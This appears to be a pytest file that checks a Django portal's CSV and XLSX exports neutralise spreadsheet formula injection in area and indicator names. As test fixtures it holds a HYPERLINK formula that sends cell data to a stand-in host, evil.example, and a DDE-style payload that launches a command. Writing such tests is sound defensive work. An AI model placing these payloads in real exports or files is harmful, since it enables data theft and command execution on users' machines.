"""Formula injection (issue #10 "Exports"): an area name and an indicator name that a
spreadsheet would run as formulas come out as text in every CSV and XLSX the portal
writes: the API's CSV, the map's CSV, and the profile's CSV and XLSX."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from layers.models import Area, Indicator
from tests.portal.test_profile_exports import PURPOSE, export, session, world

pytestmark = pytest.mark.django_db

__all__ = ["world"]  # the fixture, shared with the profile export tests

AREA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
INDICATOR_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
UNIT = "+44 people"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(world) -> dict[str, Any]:
    Area.objects.filter(level__slug="lsoa11", gss_code=world["shown_code"]).update(name=AREA_NAME)
    Indicator.objects.filter(slug="burglary").update(name=INDICATOR_NAME, unit=UNIT)
    return world


def csv_cells(text: str) -> list[str]:
    """Every cell of a CSV body, comment lines (`# …`) left out: a cell that starts with
    `#` is never a formula."""
    body = "\n".join(line for line in text.splitlines() if not line.startswith("#"))
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_no_formula(cells: list[Any], *, expect: tuple[str, ...]) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    assert not [c for c in texts if c.startswith(DANGEROUS)]
    for payload in expect:
        assert "'" + payload in texts, payload


def test_api_csv_neutralises_an_area_name(hostile):
    client = session(hostile["manager"])
    response = client.get(
        "/api/v1/indicators/burglary/values/",
        {"level": "lsoa11", "purpose": PURPOSE, "format": "csv"},
    )
    assert response.status_code == 200
    assert_no_formula(csv_cells(response.content.decode()), expect=(AREA_NAME,))


def test_map_csv_neutralises_an_area_name(hostile):
    client = session(hostile["manager"])
    response = client.get("/map/export.csv", {"indicator": "burglary", "level": "lsoa11"})
    assert response.status_code == 200
    assert_no_formula(csv_cells(response.content.decode()), expect=(AREA_NAME,))


def test_profile_csv_neutralises_area_and_indicator_names(hostile):
    client = session(hostile["manager"])
    response = export(client, hostile["shown_code"], "csv")
    assert response.status_code == 200
    assert_no_formula(
        csv_cells(response.content.decode()), expect=(AREA_NAME, INDICATOR_NAME, UNIT)
    )


def test_profile_xlsx_neutralises_area_and_indicator_names(hostile):
    client = session(hostile["manager"])
    response = export(client, hostile["shown_code"], "xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [c.value for ws in book for row in ws.iter_rows() for c in row if c.value]
    assert_no_formula(cells, expect=(INDICATOR_NAME,))
    # The area name is part of the title cells; none of them starts a formula.
    assert any(isinstance(v, str) and AREA_NAME in v for v in cells)
